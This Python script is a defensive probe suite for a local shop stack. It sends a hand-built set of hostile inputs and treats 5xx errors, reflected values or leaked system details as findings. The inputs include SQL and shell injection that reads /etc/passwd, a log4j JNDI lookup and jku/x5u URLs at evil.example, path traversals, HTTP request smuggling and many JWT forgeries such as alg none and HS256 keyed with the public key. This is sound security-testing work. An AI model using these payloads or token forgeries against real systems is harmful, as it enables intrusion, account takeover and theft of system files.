"""Try the front door with what attackers send; every answer is a 4xx (or harmless), none a 5xx, nothing is reflected.

No scanner's list but one by hand, of what this shop is made of: a proxy in front of gateways, JSON bodies, keys in
paths, cursors, tokens signed with RS256, letters with links in them.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import socket
import urllib.parse
from collections.abc import Callable, Iterator, Mapping
from typing import Any, NamedTuple

import jwt
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa

from tools.local.seed import Accounts, access_token
from tools.local.shop import Shop
from tools.local.stack import Stack, running_stack
from tools.report import step

EVIL = "evil.example"
MARK = "pr0be"
Judgement = Callable[["Answer"], bool]


class Answer(NamedTuple):
    """What came back; status 0 where the connection was closed without an answer."""

    status: int
    head: str
    body: bytes


class Probe(NamedTuple):
    """One request, and which answers are good."""

    name: str
    method: str
    target: str
    headers: Mapping[str, str] = {}
    body: bytes = b""
    good: Judgement | None = None


def refused(answer: Answer) -> bool:
    """Tell whether a request was refused: 4xx, or the connection closed."""
    return answer.status == 0 or 400 <= answer.status < 500


def harmless(answer: Answer) -> bool:
    """Tell whether a request was answered, or refused."""
    return answer.status < 500


def unauthorised(answer: Answer) -> bool:
    """Tell whether a token was not taken."""
    return answer.status == 401


def main() -> int:
    """Probe the running stack; return the number of findings."""
    stack = running_stack()
    findings = count = 0
    for probe in (*_paths(), *_queries(), *_bodies(), *_headers(), *_methods(), *_tokens(stack)):
        count += 1
        findings += _judged(probe, send(stack, probe))
    for name, request in _broken_http(stack.port).items():
        count += 1
        findings += _judged(Probe(name, "", ""), exchange(stack.port, request))
    findings += _letters(stack)
    step(f"probe: {count + 1} attempts at {stack.url}")
    return findings


def _judged(probe: Probe, answer: Answer) -> int:
    wrong = []
    if not (probe.good or refused)(answer):
        wrong.append(f"answered {answer.status}")
    head = "\n".join(line for line in answer.head.splitlines() if not line.lower().startswith("location:"))
    if MARK in head or EVIL in head or not _stays(answer):
        wrong.append("reflected in a header")
    if b"root:x:" in answer.body or b"Traceback" in answer.body or b"botocore" in answer.body:
        wrong.append("tells of the machine")
    if "text/html" in answer.head.lower() and MARK.encode() in answer.body:
        wrong.append("reflected in a page")
    for finding in wrong:
        print(f"probe: {probe.name}: {finding}: {probe.method} {probe.target[:80]}")
    return len(wrong)


# --- what is tried ------------------------------------------------------------------------------------------------

_STRINGS = {
    "sql": "' OR '1'='1' -- ",
    "sql union": "x' UNION SELECT password FROM customers; DROP TABLE orders;--",
    "nosql": '{"$gt": ""}',
    "key expression": "ORDER#a OR attribute_exists(pk)",
    "another item's key": "CUST#1",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "log4j": "${jndi:ldap://evil.example/a}",
    "markup": f"<script>{MARK}</script>",
    "shell": "; cat /etc/passwd #`id`$(id)",
    "null byte": "a\0b",
    "crlf": f"a\r\nX-{MARK}: 1\r\n\r\n",
    "newline": "a\nb",
    "unicode": "Ⓐ﹛İ\u202e\ufeff💥",
    "fullwidth dots": "．．／．．／etc／passwd",
    "surrogate": "%ED%A0%80",
    "overlong": "%C0%AE%C0%AE%C0%AF",
    "percent": "%25%32%66%zz",
    "long": "a" * 3000,
    "negative": "-1",
    "huge number": "9" * 400,
    "infinity": "Infinity",
    "boolean": "true",
    "list": "[]",
}
_KEYED = (
    "/catalog/products/{}",
    "/catalog/imports/{}",
    "/inventory/stock/{}",
    "/inventory/admin/stock/{}",
    "/carts/{}",
    "/orders/{}",
    "/orders/{}/timeline",
    "/payments/{}",
    "/identity/customers/{}",
    "/journal/subjects/{}",
)
_ASKED = (
    "/catalog/products?category={}",
    "/catalog/products?vendor={}",
    "/catalog/products?tag={}",
    "/catalog/products?cursor={}",
    "/catalog/products?limit={}",
    "/catalog/products?q={}",
    "/catalog/products?{}=1",
    "/catalog/categories?cursor={}",
    "/inventory/stock?skus={}",
    "/inventory/admin/stock?skus={}",
)
_TRAVERSALS = (
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..%5c..%5cetc%5cpasswd",
    "/....//....//etc/passwd",
    "/%252e%252e/etc/passwd",
    "//etc/passwd",
    "/orders/../identity/me",
    "/orders/..%2fidentity%2fme",
    "/orders/%2e%2e/identity/me",
    "/orders;/../identity/me",
    "/orders/health%00.json",
    "/%00",
    "/index.html%00.png",
    "/.git/config",
    "/.env",
    "/template.yaml",
    "/_aws/execute-api/",
    "/%0d%0aX-Pr0be:1",
    "/orders//health",
    "/ORDERS/health",
    "/orders/health/",
    "/orders%2fhealth",
    "/%c0%ae%c0%ae/etc/passwd",
)


def _quoted(text: str) -> str:
    return text if text.startswith("%") else urllib.parse.quote(text, safe="")


def _paths() -> Iterator[Probe]:
    for name, text in _STRINGS.items():
        for path in _KEYED:
            yield Probe(f"{name} in a path", "GET", path.format(_quoted(text)))
    for path in _TRAVERSALS:
        yield Probe("path", "GET", path, good=_harmless_and_here)
    for path in (f"//{EVIL}/a", f"/\\{EVIL}/a", f"///{EVIL}", f"/{EVIL}//a"):
        yield Probe("open redirect", "GET", path, good=_stays)


def _harmless_and_here(answer: Answer) -> bool:
    """Tell whether a path led to nothing but the shop's own: a folder's slash, or a path written otherwise."""
    return harmless(answer) and (answer.status != 200 or b'"status":"ok"' in answer.body)


def _stays(answer: Answer) -> bool:
    places = [
        line.partition(":")[2].strip()
        for line in answer.head.splitlines()
        if line.lower().startswith("location:")
    ]
    return answer.status < 500 and all(place.startswith("/") and place[1:2] not in "/\\" for place in places)


def _queries() -> Iterator[Probe]:
    for name, text in _STRINGS.items():
        for path in _ASKED:
            yield Probe(f"{name} in a query", "GET", path.format(_quoted(text)), good=harmless)
    yield Probe("parameter given twice", "GET", "/catalog/products?limit=1&limit=2")
    yield Probe(
        "thousands of parameters", "GET", "/catalog/products?" + "&".join(f"a{n}=1" for n in range(500))
    )


def _bodies() -> Iterator[Probe]:
    log_in_with: dict[str, object] = {
        "operators": {"email": {"$ne": None}, "password": {"$ne": None}},
        "lists": {"email": ["a@b.example"], "password": ["x"]},
        "numbers": {"email": 1, "password": 2},
        "sql": {"email": "' OR 1=1 --", "password": "' OR 1=1 --"},
        "more fields": {"email": "a@b.example", "password": "x", "roles": ["admin"]},
        "prototype": {"email": "a@b.example", "password": "x", "__proto__": {"admin": True}},
        "null": None,
        "text": "x",
    }
    sent = {f"log-in with {name}": json.dumps(body).encode() for name, body in log_in_with.items()}
    sent |= {
        "no JSON": b"<xml/>",
        "deep JSON": b'{"email":' + b"[" * 30000 + b"]" * 30000 + b"}",
        "field twice": b'{"email":"a@b.example","email":"c@d.example","password":"x","password":["y"]}',
        "invalid UTF-8": b'{"email":"\xff\xfe@b.example","password":"x"}',
        "lone surrogate": b'{"email":"\\ud800@b.example","password":"x"}',
        "null byte": b'{"email":"a\\u0000@b.example","password":"x","x":1}',
        "NaN": b'{"email":"a@b.example","password":NaN}',
        "a number of 5000 digits": b'{"email":' + b"9" * 5000 + b"}",
        "100 KB": b'{"email":"' + b"a" * 100_000 + b'"}',
        "7 MB": b" " * (7 * 1024 * 1024),
        "nothing": b"",
    }
    for name, body in sent.items():
        yield Probe(name, "POST", "/identity/login", _JSON, body)
    account = {"email": "a@b.example", "password": "a long password", "name": "x", "roles": ["admin"]}
    yield Probe("registering as admin", "POST", "/identity/register", _JSON, json.dumps(account).encode())
    for kind in (
        "text/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "application/json;charset=utf-16",
    ):
        yield Probe(f"{kind} for JSON", "POST", "/identity/login", {"Content-Type": kind}, b"\xff\xfea=b")
    yield Probe(
        "a forged quote", "POST", "/orders", _JSON, b'{"quote":"e30.e30","payment":{"token":"tok_visa"}}'
    )


_JSON = {"Content-Type": "application/json"}


def _headers() -> Iterator[Probe]:
    path = "/orders/ord_none"
    yield Probe("a header of 20 KB", "GET", path, {"X-Large": "a" * 20_000})
    yield Probe("300 headers", "GET", path, {f"X-Many-{n}": "a" for n in range(300)})
    for name in ("X-Forwarded-Host", "X-Original-URL", "X-Rewrite-URL", "Forwarded", "X-Host"):
        yield Probe(f"{name} elsewhere", "GET", path, {name: f"{EVIL}/identity/me"})
    for name in ("X-Correlation-Id", "Idempotency-Key", "X-Order-Token", "If-Match", "Origin"):
        yield Probe(f"markup in {name}", "GET", path, {name: f"<script>{MARK}</script>"})
        yield Probe(f"markup in {name}, static", "GET", "/none.html", {name: f"<script>{MARK}</script>"})
    for name in ("principalId", "X-Amzn-Principal", "X-User-Id", "X-Roles", "Cookie"):
        yield Probe(f"being admin by {name}", "GET", "/orders/open", {name: "admin"}, good=unauthorised)
    yield Probe("Host elsewhere", "GET", "/", {"Host": EVIL}, good=harmless)
    yield Probe("Host elsewhere, no file", "GET", "/shop", {"Host": EVIL}, good=_stays)


def _methods() -> Iterator[Probe]:
    for method in ("TRACE", "CONNECT", "PROPFIND", "DEBUG", "get", "G<T", "A" * 300):
        yield Probe(f"method {method[:10]}", method, "/orders/ord_none")
        yield Probe(f"method {method[:10]}, static", method, "/index.html")
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        yield Probe(name, "GET", "/identity/me", {name: "DELETE"}, good=unauthorised)


def _tokens(stack: Stack) -> Iterator[Probe]:
    token = access_token(Shop(stack.url), Accounts().customer)
    for name, forged in forgeries(
        token, Shop(stack.url).must(200, "GET", "/identity/.well-known/jwks.json")
    ).items():
        sent = {"Authorization": f"Bearer {forged}"}
        good = refused if name == "10 KB" else unauthorised  # larger than all headers may be
        yield Probe(f"token: {name}", "GET", "/identity/me", sent, good=good)
        yield Probe(f"token where guests may call: {name}", "GET", "/orders/ord_none", sent, good=good)
    for name, line in {
        "Basic": "Basic YWRtaW46YWRtaW4=",
        "no scheme": token,
        "twice": f"Bearer {token}, Bearer {token}",
    }.items():
        yield Probe(
            f"Authorization: {name}", "GET", "/identity/me", {"Authorization": line}, good=unauthorised
        )
    yield Probe("token in the query", "GET", f"/identity/me?access_token={token}", good=unauthorised)


def forgeries(token: str, jwks: dict[str, list[dict[str, str]]]) -> dict[str, str]:
    """Return tokens that nobody may take, made of a good one and of the public keys."""
    head, claims, signature = token.split(".")
    header = jwt.get_unverified_header(token)
    said = jwt.decode(token, options={"verify_signature": False})
    admin = {**said, "roles": ["admin", "staff"], "scope": "shop staff admin"}
    made = {
        "another's claims": f"{head}.{_json(admin)}.{signature}",
        "signature of zeros": f"{head}.{_json(admin)}.{_b64(bytes(256))}",
        "signature of one": f"{head}.{_json(admin)}.{_b64(bytes(255) + bytes([1]))}",
        "no signature": f"{head}.{claims}.",
        "two parts": f"{head}.{claims}",
        "four parts": f"{token}.{signature}",
        "no JSON": f"{_b64(b'{')}.{claims}.{signature}",
        "binary": f"{_b64(bytes(range(256)))}.{claims}.{signature}",
        "a token in a token": f"{head}.{_b64(token.encode())}.{signature}",
        "JSON serialisation": json.dumps({"payload": claims, "protected": head, "signature": signature}),
    }
    made |= _headers_of_tokens(header, claims, signature)
    made |= _texts(head, claims, signature)
    made |= _by_others(header, admin, jwks)
    return made | _numbers(token, jwks)


def _headers_of_tokens(header: dict[str, object], claims: str, signature: str) -> dict[str, str]:
    """Return tokens with a good signature under a header that it was not made for."""
    algorithms = ("none", "None", "NONE", "nOnE", "", "rs256", "RS384", "RS512", "PS256", "ES256", None, 0)
    changes: dict[str, dict[str, object]] = {f"alg {one!r}": {"alg": one} for one in algorithms}
    changes |= {
        "kid of another type": {"kid": {"$ne": 1}},
        "kid with a path": {"kid": "../../../../dev/null"},
        "kid with SQL": {"kid": "x' UNION SELECT 'secret' -- "},
        "kid with a zero": {"kid": f"{header['kid']}\0"},
        "crit": {"crit": ["exp"]},
        "b64": {"b64": False, "crit": ["b64"]},
        "zip": {"zip": "DEF"},
        "cty": {"cty": "JWT"},
        "typ JWT": {"typ": "JWT"},
        "no typ": {"typ": None},
        "10 KB": {"pad": "a" * 10_000},
    }
    made = {name: f"{_json({**header, **change})}.{claims}.{signature}" for name, change in changes.items()}
    made |= {
        f"{name}, unsigned": f"{made[name].rpartition('.')[0]}." for name in made if name.startswith("alg")
    }
    plain = json.dumps(header, separators=(",", ":"))
    texts = {
        "header with alg twice": plain.replace("{", '{"alg":"none",', 1),
        "header with kid twice": plain[:-1] + f',"kid":"{header["kid"]}"}}',
        "header with an escape": plain.replace("at+jwt", "at\\u002bjwt"),
        "header with white space": plain.replace(",", ", "),
        "header in another order": json.dumps(dict(sorted(header.items())), separators=(",", ":")),
    }
    return made | {name: f"{_b64(text.encode())}.{claims}.{signature}" for name, text in texts.items()}


def _texts(head: str, claims: str, signature: str) -> dict[str, str]:
    """Return a good token written otherwise: base64url has other texts for the same bytes."""
    parts, alphabet = (head, claims, signature), _ALPHABET
    made = {
        "bits left over": f"{head}.{claims}.{signature[:-1]}{alphabet[alphabet.index(signature[-1]) + 1]}"
    }
    for place, name in enumerate(("header", "claims", "signature")):
        for kind, changed in {
            "padded": f"{parts[place]}==",
            "longer": f"{parts[place]}AAAA",
            "with a blank": f"{parts[place][:9]} {parts[place][9:]}",
            "with another letter": f"{parts[place][:9]}+{parts[place][10:]}",
        }.items():
            made[f"{name} {kind}"] = ".".join((*parts[:place], changed, *parts[place + 1 :]))
    return made


_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_A"


def _by_others(
    header: dict[str, object], admin: dict[str, object], jwks: dict[str, list[dict[str, str]]]
) -> dict[str, str]:
    """Return tokens that are signed with other keys: our own, or a public one taken for a secret."""
    mine = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    my_jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(mine.public_key()))
    curve = ec.generate_private_key(ec.SECP256R1())
    public = jwt.PyJWK(jwks["keys"][-1]).key
    kinds, encodings = serialization.PublicFormat, serialization.Encoding
    pem, der = (
        public.public_bytes(one, kinds.SubjectPublicKeyInfo) for one in (encodings.PEM, encodings.DER)
    )
    own = {name: value for name, value in header.items() if name != "alg"}

    def by_me(key: Any = mine, algorithm: str = "RS256", **changed: object) -> str:
        return jwt.encode(admin, key, algorithm=algorithm, headers={**own, **changed})

    return {
        "HS256 with the public key": _hmac(header, admin, pem),
        "HS256 with the public key in DER": _hmac(header, admin, der),
        "HS256 with the JWK set": _hmac(header, admin, json.dumps(jwks).encode()),
        "HS256 with the modulus": _hmac(header, admin, jwks["keys"][-1].get("n", "").encode()),
        "HS256 with nothing": _hmac(header, admin, b""),
        "own key, the shop's kid": by_me(),
        "own key by ES256": by_me(curve, "ES256"),
        "own key by PS256": by_me(mine, "PS256"),
        "own key in the header": by_me(jwk=my_jwk),
        "own key at a jku": by_me(jku=f"https://{EVIL}/jwks.json"),
        "own key at an x5u": by_me(x5u=f"https://{EVIL}/cert.pem"),
        "own key in an x5c": by_me(x5c=["MII"]),
        "own kid": by_me(kid="mine"),
        "exp as text": _by(mine, header, {**admin, "exp": "9999999999"}),
        "no exp": _by(mine, header, {name: value for name, value in admin.items() if name != "exp"}),
        "aud as a list": _by(mine, header, {**admin, "aud": [admin["aud"], f"https://{EVIL}"]}),
        "iss with a suffix": _by(mine, header, {**admin, "iss": f"{admin['iss']}.{EVIL}"}),
    }


def _by(key: rsa.RSAPrivateKey, header: dict[str, object], claims: dict[str, object]) -> str:
    text = f"{_json(header)}.{_json(claims)}"
    return f"{text}.{_b64(key.sign(text.encode(), padding.PKCS1v15(), hashes.SHA256()))}"


def _numbers(token: str, jwks: dict[str, list[dict[str, str]]]) -> dict[str, str]:
    """Return tokens whose signature is another number that is equal to the good one in some arithmetic."""
    text, _, signature = token.rpartition(".")
    kid = jwt.get_unverified_header(token)["kid"]
    (public,) = [jwt.PyJWK(key).key for key in jwks["keys"] if key["kid"] == kid]
    modulus = public.public_numbers().n
    number = int.from_bytes(base64.urlsafe_b64decode(f"{signature}=="), "big")
    sent = {
        "s + n": (number + modulus).to_bytes(257, "big"),
        "n - s": (modulus - number).to_bytes(256, "big"),
        "a zero before s": number.to_bytes(257, "big"),
        "n": modulus.to_bytes(256, "big"),
        "one byte less": number.to_bytes(256, "big")[1:],
        "one byte more": number.to_bytes(256, "big") + b"\0",
    }
    return {f"signature {name}": f"{text}.{_b64(raw)}" for name, raw in sent.items()}


def _json(part: object) -> str:
    return _b64(json.dumps(part, separators=(",", ":")).encode())


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _hmac(header: dict[str, object], claims: dict[str, object], secret: bytes) -> str:
    signed = f"{_b64(json.dumps({**header, 'alg': 'HS256'}).encode())}.{_b64(json.dumps(claims).encode())}"
    return f"{signed}.{_b64(hmac.new(secret, signed.encode(), hashlib.sha256).digest())}"


def _broken_http(port: int) -> dict[str, bytes]:
    """Return requests no client of good will sends; two requests in one would be smuggled past a careless proxy."""
    host = f"Host: localhost:{port}\r\n"
    inner = f"GET /identity/me HTTP/1.1\r\n{host}\r\n"
    start = f"POST /orders HTTP/1.1\r\n{host}Content-Type: application/json\r\n"
    sent = {
        "length and chunks (CL.TE)": f"{start}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
        "chunks twice": f"{start}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{inner}",
        "chunked, obfuscated": f"{start}Transfer-Encoding: xchunked\r\nContent-Length: 3\r\n\r\n0\r\n",
        "two lengths": f"{start}Content-Length: 0\r\nContent-Length: 40\r\n\r\n{inner}",
        "negative length": f"{start}Content-Length: -1\r\n\r\n",
        "length with a sign": f"{start}Content-Length: +3\r\n\r\n{{}} ",
        "space before the colon": f"GET /orders/health HTTP/1.1\r\n{host}X-A : b\r\n\r\n",
        "folded header": f"GET /orders/none HTTP/1.1\r\n{host}X-A: b\r\n c: d\r\n\r\n",
        "null in a header": f"GET /orders/none HTTP/1.1\r\n{host}X-A: b\0c\r\n\r\n",
        "bare CR in a header": f"GET /orders/none HTTP/1.1\r\n{host}X-A: b\rX-{MARK}: c\r\n\r\n",
        "no host": "GET /orders/none HTTP/1.1\r\n\r\n",
        "two hosts": f"GET /orders/none HTTP/1.1\r\n{host}Host: {EVIL}\r\n\r\n",
        "absolute form, elsewhere": f"GET http://{EVIL}/orders/none HTTP/1.1\r\n{host}\r\n",
        "HTTP/0.9": "GET /orders/none\r\n\r\n",
        "HTTP/9.9": f"GET /orders/none HTTP/9.9\r\n{host}\r\n",
        "no HTTP at all": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n",
    }
    return {name: text.encode("latin-1") for name, text in sent.items()}


def _letters(stack: Stack) -> int:
    """Ask for a letter under another host's name: its link must lead to the shop."""
    body = json.dumps({"email": Accounts().customer.email}).encode()
    sent = {**_JSON, "Host": EVIL, "X-Forwarded-Host": EVIL, "Origin": f"https://{EVIL}"}
    send(stack, Probe("letter", "POST", "/identity/password/forgot", sent, body))
    if EVIL in json.dumps(stack.emulator.mails()):
        print("probe: a letter links to the host of the request")
        return 1
    return 0


# --- sending ------------------------------------------------------------------------------------------------------


def send(stack: Stack, probe: Probe) -> Answer:
    """Send a probe as it is, without a client that would mend it."""
    headers = {"Host": f"localhost:{stack.port}", "Connection": "close", **probe.headers}
    if probe.body or probe.method in ("POST", "PUT"):
        headers["Content-Length"] = str(len(probe.body))
    lines = [
        f"{probe.method} {probe.target} HTTP/1.1",
        *(f"{name}: {value}" for name, value in headers.items()),
    ]
    return exchange(stack.port, "\r\n".join(lines).encode("utf-8") + b"\r\n\r\n" + probe.body)


def exchange(port: int, request: bytes) -> Answer:
    """Send bytes and return the one answer; a second one on the same connection is a finding, status 599."""
    received = b""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=40) as connection:
            _send_all(connection, request)
            connection.settimeout(40)
            while True:
                some = connection.recv(65536)
                received += some
                if not some or _complete(received):
                    break
    except OSError:
        pass
    head, _, body = received.partition(b"\r\n\r\n")
    text = head.decode("latin-1")
    status = int(text.split(" ")[1]) if text.startswith("HTTP/") else 0
    if b"\r\nHTTP/1.1 " in body or body.startswith(b"HTTP/1.1 "):
        status = 599
    return Answer(status, text, body)


def _send_all(connection: socket.socket, request: bytes) -> None:
    try:
        connection.sendall(request)
    except OSError:  # it was refused before all of it was sent; the answer may be there all the same
        return


def _complete(received: bytes) -> bool:
    """Tell whether one whole answer is there, for connections that stay open."""
    head, found, body = received.partition(b"\r\n\r\n")
    if not found:
        return False
    lengths = [
        line.partition(b":")[2] for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")
    ]
    return bool(lengths) and len(body) >= int(lengths[0])
